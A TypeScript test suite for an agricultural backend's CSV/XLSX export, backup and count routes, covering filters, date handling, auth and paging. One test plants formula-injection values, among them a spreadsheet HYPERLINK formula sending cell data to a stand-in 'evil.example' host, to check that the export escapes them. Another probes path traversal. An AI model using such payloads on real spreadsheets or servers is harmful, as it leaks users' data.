import { request } from 'node:http';
import { PGlite } from '@electric-sql/pglite';
import { ethiopianDayText } from '@gebere/i18n/calendar';
import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { parseCsv } from '../../src/backend/csv';
import { pgliteDb } from '../../src/backend/db/pglite';
import type { Db } from '../../src/backend/db/types';
import { proof } from './test-kit/auth-headers';
import { startBackend, type TestBackend } from './test-kit/backend';
import { describeOnBothDatabases, describeOnDatabases } from './test-kit/databases';
import { fingerprint } from './test-kit/fingerprint';
import type { Da } from './test-kit/fixtures';

const PAGE = 3;
const PAGE_SQL = 'order by t.id limit';
const LEVELS = ['region', 'zone', 'woreda', 'kebele'] as const;
const AREA_HEADER = LEVELS.flatMap((l) => [`${l}_id`, `${l}_name`, `${l}_name_am`]);
const CREATOR = 'left join da_profiles c on c.id = t.created_by';
const daName = (a: string) => `concat_ws(' ', ${a}.first_name, ${a}.father_name, ${a}.grand_father_name)`;

/**
 * What each export must hold: its documented header, and its rows read here with plain SQL (the
 * area spliced in at `before`; `at` and `updated_at` become the Addis time and the ISO UTC one).
 */
const TABLES = {
  farmers: {
    header: [
      'id',
      'farmer_name',
      'father_name',
      'grand_father_name',
      'phone_number',
      'gender',
      'development_group_id',
      'development_group_name',
      ...AREA_HEADER,
      'created_by_da_id',
      'created_by_da_name',
      'created_at',
      'created_at_utc',
      'created_at_ec',
    ],
    sql: `select t.id, t.farmer_name, t.father_name, t.grand_father_name, '0' || t.phone_number as phone, t.gender,
            t.development_group_id, g.group_name, t.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
          from farmers t join development_groups g on g.id = t.development_group_id ${CREATOR}
          where t.retired_at is null`,
    before: 8,
  },
  groups: {
    header: [
      'id',
      'group_name',
      'group_type',
      ...AREA_HEADER,
      'created_by_da_id',
      'created_by_da_name',
      'created_at',
      'created_at_utc',
      'created_at_ec',
    ],
    sql: `select t.id, t.group_name, t.group_type, t.kebele_id as area, t.created_by, ${daName('c')} as da,
            t.created_at as at from development_groups t ${CREATOR}`,
    before: 3,
  },
  reach: {
    header: [
      'id',
      'farmer_id',
      'farmer_name',
      'father_name',
      'advisory_id',
      'advisory_code',
      'advisory_label',
      ...AREA_HEADER,
      'created_by_da_id',
      'created_by_da_name',
      'created_at',
      'created_at_utc',
      'created_at_ec',
    ],
    sql: `select t.id, t.farmer_id, f.farmer_name, f.father_name, t.advisory_id, a.code, a.label,
            f.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
          from reach_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id ${CREATOR}
          where t.taken_back_at is null`,
    before: 7,
  },
  adoption: {
    header: [
      'id',
      'farmer_id',
      'farmer_name',
      'father_name',
      'advisory_id',
      'advisory_code',
      'advisory_label',
      'adoption_type',
      ...AREA_HEADER,
      'created_by_da_id',
      'created_by_da_name',
      'created_at',
      'created_at_utc',
      'created_at_ec',
    ],
    sql: `select t.id, t.farmer_id, f.farmer_name, f.father_name, t.advisory_id, a.code, a.label, t.adoption_type,
            f.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
          from adoption_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id ${CREATOR}
          where t.taken_back_at is null`,
    before: 8,
  },
  feedback: {
    header: [
      'id',
      'bot_user_id',
      'da_id',
      'da_name',
      'question_id',
      'question',
      'question_type',
      'advisory_id',
      'response',
      ...AREA_HEADER,
      'created_at',
      'created_at_utc',
      'created_at_ec',
      'updated_at',
      'updated_at_utc',
      'updated_at_ec',
    ],
    sql: `select t.id, t.bot_user_id, b.da_profile_id, ${daName('d')} as da, t.question_id, q.question, q.type,
            q.advisory_id, t.response::text as response, d.kebele_id as area, t.created_at as at, t.updated_at
          from feedback t join feedback_questions q on q.id = t.question_id join bot_users b on b.id = t.bot_user_id
          left join da_profiles d on d.id = b.da_profile_id`,
    before: 9,
  },
} as const;
type Table = keyof typeof TABLES;

type Place = Record<(typeof LEVELS)[number], { id: number; name: string; am: string }>;
type Filter = { level?: (typeof LEVELS)[number]; id?: number; from?: string; to?: string };

const iso = (v: unknown) => new Date(v as string).toISOString().replace(/Z$/, '000Z');
/** Addis Ababa's wall clock (UTC+3 all year), as Excel reads a date. */
const addis = (v: unknown) =>
  new Date(new Date(v as string).getTime() + 3 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');
/** The Addis Ababa day in the Ethiopian calendar (converter: @gebere/i18n's calendar.test.ts). */
const ethiopianDay = (v: unknown) => ethiopianDayText(addis(v).slice(0, 10));
/** A cell as a spreadsheet must read it: a text that would run as a formula starts with `'` (OWASP). */
const cell = (v: unknown) => {
  const text = v === null || v === undefined ? '' : String(v as string | number);
  return typeof v === 'string' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
};

describeOnDatabases('operator exports and backup (%s)', (kind) => {
  let t: TestBackend;
  /** Export page queries the backend ran, and a delay to put in each (the disconnect test). */
  const pages = { count: 0, delayMs: 0, running: 0 };
  const counting = (db: Db): Db => ({
    ...db,
    kind: db.kind,
    transaction: (fn) => db.transaction(fn),
    close: () => db.close(),
    async query(sql, params) {
      if (!sql.includes(PAGE_SQL)) return db.query(sql, params);
      pages.count++;
      pages.running++;
      try {
        // A slow page (the disconnect test): the client's hang-up lands between pages.
        if (pages.delayMs) await new Promise((r) => setTimeout(r, pages.delayMs));
        return await db.query(sql, params);
      } finally {
        pages.running--;
      }
    },
    ...(db.dumpDataDir ? { dumpDataDir: () => (db.dumpDataDir as () => Promise<Blob>)() } : {}),
  });
  let das: Da[];

  beforeAll(async () => {
    t = await startBackend(kind, { exportPageSize: PAGE, wrapDb: counting });
    const { fx } = t;
    const da = await fx.da(fx.area);
    const other = await fx.da(fx.otherArea);
    das = [da, other];
    const group = await fx.group(da, 'ተስፋ ቡድን');
    const otherGroup = await fx.group(other, 'Chala, "the second"');
    const farmers = [
      await fx.farmer(da, group, 'አበበ'),
      await fx.farmer(da, group, 'Almaz, "Alem"'),
      ...(await Promise.all([1, 2, 3, 4].map(() => fx.farmer(da, group)))),
      ...(await Promise.all([1, 2, 3].map(() => fx.farmer(other, otherGroup, 'ጫላ')))),
    ];
    const [advisory, second] = fx.advisoryIds as [number, number];
    for (const [i, farmer] of farmers.entries()) {
      const by = i < 6 ? da.daId : other.daId;
      await t.db.query('insert into reach_records (farmer_id, advisory_id, created_by) values ($1, $2, $3)', [
        farmer,
        advisory,
        by,
      ]);
      if (i % 2 === 0)
        await t.db.query(
          'insert into adoption_records (farmer_id, advisory_id, created_by) values ($1, $2, $3)',
          [farmer, second, by],
        );
    }
    const questions = (
      await t.db.query<{ id: number }>('select id from feedback_questions order by id limit 3')
    ).rows.map((r) => r.id);
    const plain = await fx.user();
    const answer = (user: number, question: number | undefined, response: string) =>
      t.db.query('insert into feedback (bot_user_id, question_id, response) values ($1, $2, $3::jsonb)', [
        user,
        question,
        response,
      ]);
    for (const question of questions) {
      await answer(da.botUserId, question, '["ጥሩ ነው", "b,c"]');
      await answer(other.botUserId, question, '{"rating": 4}');
    }
    await answer(plain.botUserId, questions[0], '"line one\\nline \\"two\\""');
    // Whole seconds spread over two months, so the date filters cut somewhere and times compare exactly.
    for (const table of ['farmers', 'development_groups', 'reach_records', 'adoption_records', 'feedback'])
      await t.db.exec(
        `update ${table} set created_at = timestamptz '2026-01-01T00:00:00Z' + ((id * 7) % 60) * interval '1 day' + interval '7 hours 5 seconds'`,
      );
    await t.db.exec("update feedback set updated_at = created_at + interval '1 hour'");
    // A retired farmer and records taken back are no longer the registry's: the exports leave them
    // out, as the reports do.
    await t.db.query("update farmers set retired_at = now(), retired_reason = 'moved' where id = $1", [
      farmers[3],
    ]);
    for (const table of ['reach_records', 'adoption_records'])
      await t.db.query(
        `update ${table} set taken_back_at = now(), taken_back_reason = 'test' where farmer_id = $1`,
        [farmers[4]],
      );
  });
  afterAll(() => t?.close());

  const exportOf = async (
    table: string,
    query: Record<string, string | number> = {},
    headers = proof.service(),
  ) => t.call('GET', `/ops/export/${table}.csv`, { headers, query });

  async function expected(table: Table, filter: Filter): Promise<string[][]> {
    const rows = (await t.db.query<Record<string, unknown>>(`${TABLES[table].sql} order by 1`)).rows;
    const kebeles = [...new Set(rows.map((r) => r.area).filter((k) => k !== null))];
    const places = new Map<number, Place>();
    const found = await t.db.query<Record<string, unknown>>(
      `select k.id as kebele_id, k.name as kebele_name, k.name_am as kebele_am, w.id as woreda_id,
              w.name as woreda_name, w.name_am as woreda_am, z.id as zone_id, z.name as zone_name,
              z.name_am as zone_am, r.id as region_id, r.name as region_name, r.name_am as region_am
       from kebeles k join woredas w on w.id = k.woreda_id join zones z on z.id = w.zone_id
       join regions r on r.id = z.region_id where k.id = any($1::bigint[])`,
      [kebeles],
    );
    for (const p of found.rows)
      places.set(
        Number(p.kebele_id),
        Object.fromEntries(
          LEVELS.map((l) => [
            l,
            { id: Number(p[`${l}_id`]), name: String(p[`${l}_name`]), am: cell(p[`${l}_am`]) },
          ]),
        ) as Place,
      );
    // Days of Addis Ababa's calendar, as the filters take them.
    const day = (v: unknown) => addis(v).slice(0, 10);
    return rows
      .filter((r) => {
        const place = r.area === null ? undefined : places.get(Number(r.area));
        if (filter.level && place?.[filter.level].id !== filter.id) return false;
        if (filter.from && day(r.at) < filter.from) return false;
        if (filter.to && day(r.at) > filter.to) return false;
        return true;
      })
      .map((r) => {
        const place = r.area === null ? undefined : places.get(Number(r.area));
        const area = LEVELS.flatMap((l) =>
          place ? [String(place[l].id), place[l].name, place[l].am] : ['', '', ''],
        );
        const values = Object.entries(r).filter(([k]) => k !== 'area');
        const cells = values.flatMap(([k, v]) =>
          k === 'at' || k === 'updated_at' ? [addis(v), iso(v), ethiopianDay(v)] : [cell(v)],
        );
        const at = TABLES[table].before;
        return [...cells.slice(0, at), ...area, ...cells.slice(at)];
      });
  }

  async function expectExport(table: Table, filter: Filter = {}) {
    const query: Record<string, string | number> = {};
    if (filter.level) query[filter.level] = filter.id as number;
    if (filter.from) query.from = filter.from;
    if (filter.to) query.to = filter.to;
    const before = pages.count;
    const r = await exportOf(table, query);
    expect(r.status).toBe(200);
    expect(r.raw.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.raw.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = parseCsv(r.raw.body);
    expect(r.raw.body.endsWith('\r\n')).toBe(true);
    expect(records[0]).toEqual(TABLES[table].header);
    const want = await expected(table, filter);
    expect(records.slice(1)).toEqual(want);
    // Keyset pages of PAGE rows, the last one short (or empty).
    expect(pages.count - before).toBe(Math.floor(want.length / PAGE) + 1);
    return want;
  }

  it.each(Object.keys(TABLES) as Table[])('%s: every row, exactly, in pages', async (table) => {
    const all = await expectExport(table);
    expect(all.length).toBeGreaterThan(PAGE);
  });

  it.each(Object.keys(TABLES) as Table[])('%s: filtered by area and by dates', async (table) => {
    const { area, otherArea } = t.fx;
    const all = (await expected(table, {})).length;
    for (const filter of [
      { level: 'kebele', id: area.kebele },
      { level: 'woreda', id: area.woreda },
      { level: 'region', id: otherArea.region },
      { level: 'zone', id: otherArea.zone, from: '2026-01-10', to: '2026-02-10' },
      { from: '2026-01-20' },
      { to: '2026-01-20' },
    ] as Filter[]) {
      const rows = await expectExport(table, filter);
      expect(rows.length, JSON.stringify(filter)).toBeLessThan(all);
    }
    expect((await expectExport(table, { level: 'kebele', id: area.kebele })).length).toBeGreaterThan(0);
  });

  it('keeps Amharic, commas, quotes and newlines intact', async () => {
    const farmers = parseCsv((await exportOf('farmers', { kebele: t.fx.area.kebele })).raw.body);
    const names = farmers.map((r) => r[1]);
    expect(names).toContain('አበበ');
    expect(names).toContain('Almaz, "Alem"');
    expect(farmers.map((r) => r[7])).toContain('ተስፋ ቡድን');
    const feedback = (await exportOf('feedback')).raw.body;
    expect(feedback).toContain('"[""ጥሩ ነው"", ""b,c""]"');
    const answers = parseCsv(feedback)
      .slice(1)
      .map((r) => r[8]);
    expect(answers).toContain('"line one\\nline \\"two\\""');
    expect(answers.map((a) => JSON.parse(a ?? 'null'))).toContainEqual({ rating: 4 });
    // A DA's answer carries their area; a user who is no DA has none.
    const rows = parseCsv(feedback).slice(1);
    const mine = rows.find((r) => r[1] === String(das[0]?.botUserId));
    expect(mine?.[2]).toBe(String(das[0]?.daId));
    expect(mine?.[18]).toBe(String(t.fx.area.kebele));
  });

  it('no cell a spreadsheet opens starts a formula; phones are 09…; every record names its DA', async () => {
    const da = das[0] as Da;
    const group = await t.fx.group(da, '@SUM(A1:A9)');
    const farmer = await t.fx.farmer(da, group, '=HYPERLINK("http://evil.example/?"&E2,"Click")');
    await t.db.query(`update farmers set father_name = '-2+3', grand_father_name = '+cmd' where id = $1`, [
      farmer,
    ]);
    try {
      const body = (await exportOf('farmers', { kebele: t.fx.area.kebele })).raw.body;
      // A real reader's view of the file.
      const records: Record<string, string>[] = parse(body, { bom: true, columns: true });
      const row = records.find((r) => r.id === String(farmer));
      expect(row).toMatchObject({
        farmer_name: `'=HYPERLINK("http://evil.example/?"&E2,"Click")`,
        father_name: "'-2+3",
        grand_father_name: "'+cmd",
        development_group_name: "'@SUM(A1:A9)",
        created_by_da_id: String(da.daId),
        created_by_da_name: expect.stringMatching(/\S+ \S+ \S+/),
      });
      for (const r of records) {
        expect(r.phone_number).toMatch(/^0[79]\d{8}$/);
        expect(r.created_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
        expect(r.created_at_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
        for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
      for (const table of ['groups', 'reach', 'adoption', 'feedback'] as const) {
        const rows: Record<string, string>[] = parse((await exportOf(table)).raw.body, {
          bom: true,
          columns: true,
        });
        const names = rows.map((r) => (table === 'feedback' ? r.da_name : r.created_by_da_name));
        expect(
          names.filter((n) => n !== ''),
          table,
        ).not.toHaveLength(0);
        for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
      }
    } finally {
      await t.db.query('delete from farmers where id = $1', [farmer]);
      await t.db.query('delete from development_groups where id = $1', [group]);
    }
  });

  it('--from and --to are days in Addis Ababa: 22:30 UTC is the next day there', async () => {
    const da = das[0] as Da;
    const group = await t.fx.group(da, 'Late group');
    await t.db.query(`update development_groups set created_at = '2026-03-01T22:30:00Z' where id = $1`, [
      group,
    ]);
    try {
      const ids = async (query: Record<string, string>) =>
        (
          parse((await exportOf('groups', query)).raw.body, { bom: true, columns: true }) as Record<
            string,
            string
          >[]
        )
          .filter((r) => r.id === String(group))
          .map((r) => [r.created_at, r.created_at_utc, r.created_at_ec]);
      // Its Ethiopian day is Addis Ababa's too: Yekatit 23, 2018 (2026-03-02), not the UTC day's 22.
      expect(await ids({ from: '2026-03-02', to: '2026-03-02' })).toEqual([
        ['2026-03-02 01:30:00', '2026-03-01T22:30:00.000000Z', '2018-06-23'],
      ]);
      expect(await ids({ to: '2026-03-01' })).toEqual([]);
    } finally {
      await t.db.query('delete from development_groups where id = $1', [group]);
    }
  });

  it('.xlsx: one sheet, the same rows as the CSV, with numbers, dates and phones typed', async () => {
    const kebele = t.fx.area.kebele;
    const csv: string[][] = parse((await exportOf('farmers', { kebele })).raw.body, { bom: true });
    const x = await t.call('GET', '/ops/export/farmers.xlsx', {
      headers: proof.service(),
      query: { kebele },
    });
    expect(x.status).toBe(200);
    expect(x.raw.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(x.raw.headers['x-gebere-rows']).toBe(String(csv.length - 1));
    const sheets = await readXlsxFile(x.raw.rawPayload);
    expect(sheets.map((s) => s.sheet)).toEqual(['farmers']);
    const [header, ...rows] = sheets[0]?.data ?? [];
    expect(header).toEqual(csv[0]);
    const col = (name: string) => (csv[0] as string[]).indexOf(name);
    expect(rows).toHaveLength(csv.length - 1);
    rows.forEach((row, i) => {
      const text = csv[i + 1] as string[];
      expect(typeof row[col('id')]).toBe('number');
      expect(row[col('id')]).toBe(Number(text[col('id')]));
      expect(row[col('kebele_id')]).toBe(kebele);
      expect(row[col('phone_number')]).toBe(text[col('phone_number')]);
      expect(row[col('phone_number')]).toMatch(/^0[79]\d{8}$/);
      expect(row[col('kebele_name_am')] ?? null).toBe(text[col('kebele_name_am')] || null);
      const at = row[col('created_at')];
      expect(at).toBeInstanceOf(Date);
      // The wall-clock time a clerk sees, as a date cell (to the second, as Excel rounds a serial day).
      const shown = new Date(Math.round((at as unknown as Date).getTime() / 1000) * 1000);
      expect(shown.toISOString().slice(0, 19).replace('T', ' ')).toBe(text[col('created_at')]);
      expect(row[col('created_at_utc')]).toBe(text[col('created_at_utc')]);
      expect(row[col('created_at_ec')]).toBe(text[col('created_at_ec')]); // text: month 13 is no date
      expect(text[col('created_at_ec')]).toMatch(/^20\d\d-(0\d|1[0-3])-[0-3]\d$/);
      expect(row[col('farmer_name')]).toBe(text[col('farmer_name')]);
    });
    const bad = await t.call('GET', '/ops/export/farmers.xlsx', {
      headers: proof.service(),
      query: { from: 'x' },
    });
    expect(bad.status).toBe(400);
  });

  it('only the service token may export, back up or count: 401 without proof, 403 for users', async () => {
    const da = das[0] as Da;
    for (const path of ['/ops/export/farmers.csv', '/ops/backup', '/ops/counts']) {
      expect((await t.call('GET', path)).status).toBe(401);
      expect((await t.call('GET', path, { headers: proof.service('wrong-token') })).status).toBe(401);
      const user = await t.call('GET', path, { headers: da.headers });
      expect(user.status).toBe(403);
      expect(user.body).toEqual({ detail: 'You do not have permission to perform this action.' });
      expect(user.raw.body).not.toContain('አበበ');
      const link = await t.call('GET', path, { headers: proof.link(da.telegramId, '/farmer_registration') });
      expect(link.status).toBe(403);
    }
  });

  it('bad filters are 400 with field messages, an unknown table 404; nothing is read', async () => {
    const before = pages.count;
    const bad = async (query: Record<string, string | number>) => {
      const r = await exportOf('farmers', query);
      expect(r.status, JSON.stringify(query)).toBe(400);
      return r.body;
    };
    expect(await bad({ from: '2026-02-30' })).toEqual({ from: ['Give a date as YYYY-MM-DD.'] });
    expect(await bad({ to: 'yesterday' })).toEqual({ to: ['Give a date as YYYY-MM-DD.'] });
    expect(await bad({ from: '2026-03-01', to: '2026-02-01' })).toEqual({
      to: ['The end date is before the start date.'],
    });
    expect(await bad({ region: 'abc' })).toEqual({ region: ['A valid region id is required.'] });
    expect(await bad({ region: 0 })).toEqual({ region: ['A valid region id is required.'] });
    expect(await bad({ region: 1, kebele: 2 })).toEqual({
      non_field_errors: ['Filter by one area only, not region and kebele.'],
    });
    expect(await bad({ page: 2 })).toEqual({ page: ['Unknown parameter.'] });
    const twice = await t.app.inject({
      method: 'GET',
      url: '/backend/ops/export/farmers.csv?from=2026-01-01&from=2026-01-02',
      headers: proof.service(),
    });
    expect(twice.statusCode).toBe(400);
    for (const table of ['people', 'farmers', 'farmers.json', '..%2Fbackup'])
      expect((await t.call('GET', `/ops/export/${table}`, { headers: proof.service() })).status).toBe(404);
    // A kebele that does not exist is no error: it holds no rows.
    expect(parseCsv((await exportOf('farmers', { kebele: 999_999_999 })).raw.body)).toHaveLength(1);
    expect(pages.count - before).toBe(1);
  });

  it('stops reading pages when the client goes away', async () => {
    const total = (await expected('farmers', {})).length;
    const address = await t.app.listen({ host: '127.0.0.1', port: 0 });
    pages.delayMs = 30;
    try {
      const before = pages.count;
      // The server's side of the connection, closed when the client has gone.
      const closed = new Promise<void>((resolve) =>
        t.app.server.once('connection', (socket) => socket.once('close', () => resolve())),
      );
      // A client that reads the first chunk and hangs up.
      await new Promise<void>((resolve, reject) => {
        const req = request(
          `${address}/backend/ops/export/farmers.csv`,
          { headers: proof.service() },
          (res) => {
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          },
        );
        req.on('error', (err) => (req.destroyed ? undefined : reject(err)));
        req.end();
      });
      // The server has seen the hang-up and the page it was reading then is done.
      await closed;
      await vi.waitFor(() => expect(pages.running).toBe(0));
      const read = pages.count - before;
      expect(read).toBeLessThan(Math.floor(total / PAGE) + 1);
      // A later export read to its end (one slow page): a page the first one still owed would
      // have been asked for meanwhile.
      expect(parseCsv((await exportOf('farmers', { kebele: 999_999_999 })).raw.body)).toHaveLength(1);
      expect(pages.count - before).toBe(read + 1);
    } finally {
      pages.delayMs = 0;
    }
  });

  it('counts the rows restore-test compares a backup with', async () => {
    const r = await t.call('GET', '/ops/counts', { headers: proof.service() });
    expect(r.status).toBe(200);
    const n = async (table: string) =>
      Number((await t.db.query<{ n: number }>(`select count(*)::int as n from ${table}`)).rows[0]?.n);
    expect(r.body).toEqual({
      farmers: await n('farmers'),
      development_groups: await n('development_groups'),
      reach_records: await n('reach_records'),
      adoption_records: await n('adoption_records'),
      feedback: await n('feedback'),
      da_profiles: await n('da_profiles'),
      location_notifications: await n('location_notifications'),
    });
    expect(r.body.farmers).toBeGreaterThan(0);
  });
});

// The backup differs by engine: PGlite's is its data directory, PostgreSQL's is pg_dump's.
describeOnBothDatabases('the backup route (%s)', (kind) => {
  let t: TestBackend;
  beforeAll(async () => {
    t = await startBackend(kind);
    const da = await t.fx.da(t.fx.area);
    await t.fx.farmer(da, await t.fx.group(da, 'ተስፋ ቡድን'), 'አበበ');
  });
  afterAll(() => t?.close());

  // One database's behaviour each: defined only on that database, not skipped on the other.
  if (kind === 'pglite')
    it('backup is the running database, whole: it opens with identical rows', async () => {
      const r = await t.call('GET', '/ops/backup', { headers: proof.service() });
      expect(r.status).toBe(200);
      expect(r.raw.headers['content-type']).toBe('application/gzip');
      expect(r.raw.headers['x-gebere-backup-format']).toBe('pglite-datadir-tar-gz');
      expect(r.raw.rawPayload.subarray(0, 2)).toEqual(Buffer.from([0x1f, 0x8b]));
      const copy = pgliteDb(await PGlite.create({ loadDataDir: new Blob([r.raw.rawPayload]) }));
      try {
        expect(await fingerprint(copy, { timestamps: true })).toEqual(
          await fingerprint(t.db, { timestamps: true }),
        );
      } finally {
        await copy.close();
      }
    });

  if (kind === 'postgres')
    it('backup on PostgreSQL says to use pg_dump (409)', async () => {
      const r = await t.call('GET', '/ops/backup', { headers: proof.service() });
      expect(r.status).toBe(409);
      expect(r.body.detail).toMatch(/pg_dump/);
    });
});
